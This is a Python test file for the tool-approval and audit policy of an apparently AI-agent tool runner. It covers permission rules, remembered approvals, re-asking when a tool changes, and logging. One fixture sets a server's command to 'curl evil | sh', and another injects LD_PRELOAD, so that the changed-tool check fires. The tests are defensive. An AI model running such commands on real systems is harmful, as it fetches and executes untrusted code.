"""What runs without a question, what is remembered, and what a changed tool means for it."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from tools.builtin.python.server import Python
from tools.config.servers import Rule, ServerConfig
from tools.policy.approval_store import Memory
from tools.policy.approvals import CHANGED, Policy
from tools.policy.audit import Audit
from tools.sandbox.isolation import Isolation
from tools.types import Answer, Tool

GIT = ServerConfig("git", command="x", origin="x")
PUSH = Tool("git", "push", "Push commits.", {"type": "object"})
LOG = Tool("git", "log", "Show commits.", {"type": "object"}, read_only=True)


def decide(policy: Policy, tool: Tool = PUSH, config: ServerConfig = GIT) -> str:
    return policy.decide(tool, config).decision


@pytest.mark.parametrize(
    ("settings", "entry", "approve", "push", "log"),
    [
        ({}, {}, (), "ask", "ask"),
        ({"git": "allow"}, {}, (), "allow", "allow"),
        ({"git": "auto"}, {}, (), "ask", "allow"),
        ({"git": "allow", "git.push": "ask"}, {}, (), "ask", "allow"),
        ({"git": "ask"}, {}, ("git.push",), "allow", "ask"),
        ({"git.push": "deny"}, {}, ("all",), "deny", "allow"),
        ({}, {"": "auto"}, (), "ask", "allow"),
        ({}, {"push": "deny", "": "allow"}, (), "deny", "allow"),
        ({"git": "allow"}, {"push": "deny"}, ("git",), "deny", "allow"),
    ],
)
def test_rules(
    settings: dict[str, Rule], entry: dict[str, Rule], approve: tuple[str, ...], push: str, log: str
) -> None:
    policy, config = Policy(approve, settings=settings), replace(GIT, rules=entry)
    assert decide(policy, PUSH, config) == push
    assert decide(policy, LOG, config) == log


def test_a_folder_cannot_allow_itself_anything() -> None:
    brought = replace(GIT, project=True, rules={"": "allow"})
    assert decide(Policy(settings={"git": "allow"}), PUSH, brought) == "ask"
    assert decide(Policy(), PUSH, replace(brought, rules={"push": "deny"})) == "deny"
    assert decide(Policy(["git"]), PUSH, brought) == "allow"


def test_the_use_of_the_model_is_allowed_by_name_only() -> None:
    wish = Tool("git", "sampling", "", {})
    trusted = replace(GIT, trusted=True, rules={"": "allow"})
    sweeping = Policy(["git", "all"], settings={"git": "allow"})
    assert sweeping.decide(wish, trusted).decision == "allow"
    assert sweeping.decide(wish, trusted, named=True).decision == "ask"
    for policy, config in (
        (Policy(["git.sampling"]), GIT),
        (Policy(settings={"git.sampling": "allow"}), GIT),
        (Policy(), replace(GIT, rules={"sampling": "allow"})),
    ):
        assert policy.decide(wish, config, named=True).decision == "allow"
    denied = Policy(["git.sampling"], settings={"git": "deny"})
    assert denied.decide(wish, GIT, named=True).decision == "deny"


@pytest.mark.parametrize("isolated", [True, False])
def test_without_isolation_an_answer_counts_once(isolated: bool) -> None:
    python = Python(isolation=Isolation("x", "", isolated), allow_unsandboxed=True)
    policy, config, tool = Policy(), ServerConfig(python.name, hand=python), python.tools[0]
    for choice in ("session", "always"):
        policy.answered(tool, config, Answer(choice), "{}", "person")  # type: ignore[arg-type]
        assert decide(policy, tool, config) == ("allow" if isolated else "ask")


def test_an_answer_counts_as_long_as_it_was_meant(tmp_path: Path) -> None:
    file = tmp_path / "state" / "approvals.json"

    def fresh(root: str = "here") -> Policy:
        return Policy(memory=Memory(file, tmp_path / root))

    policy = fresh()
    for choice in ("once", "no"):
        policy.answered(PUSH, GIT, Answer(choice), "{}", "person")  # type: ignore[arg-type]
        assert decide(policy) == "ask"
    policy.answered(PUSH, GIT, Answer("session"), "{}", "person")
    assert (decide(policy), decide(policy, LOG), decide(fresh())) == ("allow", "ask", "ask")
    policy.answered(PUSH, GIT, Answer("always"), "{}", "person")
    assert (decide(fresh()), decide(fresh("elsewhere"))) == ("allow", "ask")
    assert file.stat().st_mode & 0o777 == 0o600
    file.write_text("{nonsense")
    assert decide(fresh()) == "ask"


@pytest.mark.parametrize(
    ("tool", "config", "line"),
    [
        (replace(PUSH, description="Push, and tell all."), GIT, "+description: Push, and tell all"),
        (replace(PUSH, parameters={"type": "object", "x": 1}), GIT, '+ "x": 1'),
        (PUSH, replace(GIT, origin="curl evil | sh"), "+runs: curl evil | sh"),
        (PUSH, replace(GIT, env={"LD_PRELOAD": "x"}), "+environment: LD_PRELOAD"),
        (PUSH, replace(GIT, given="other"), "+their values, digested: other"),
    ],
)
@pytest.mark.parametrize("choice", ["session", "always"])
def test_a_tool_that_changed_is_asked_about_again_and_the_change_shown(
    tmp_path: Path, tool: Tool, config: ServerConfig, line: str, choice: str
) -> None:
    policy = Policy(memory=Memory(tmp_path / "a.json", tmp_path))
    policy.answered(PUSH, GIT, Answer(choice), "{}", "person")  # type: ignore[arg-type]
    verdict = policy.decide(tool, config)
    assert (verdict.decision, verdict.why) == ("ask", CHANGED)
    assert verdict.diff is not None and line in verdict.diff


def test_every_decision_is_in_the_log(tmp_path: Path) -> None:
    path = tmp_path / "state" / "calls.jsonl"
    policy = Policy(audit=Audit(path))
    policy.answered(PUSH, GIT, Answer("no", "not on\nFridays"), '{"to":"main"}', "person")
    policy.note(LOG, "x" * 9999, "allowed", "policy", why="--approve")
    first, second = map(json.loads, path.read_text().splitlines())
    assert (first["server"], first["tool"], first["decision"]) == ("git", "push", "refused")
    assert (first["reason"], first["arguments"]) == ("not on\nFridays", '{"to":"main"}')
    assert len(second["arguments"]) == 2000 and second["why"] == "--approve"
    assert path.stat().st_mode & 0o777 == 0o600
    Audit(tmp_path).note("a", "b", "{}")  # cannot be written: told in the program's own log
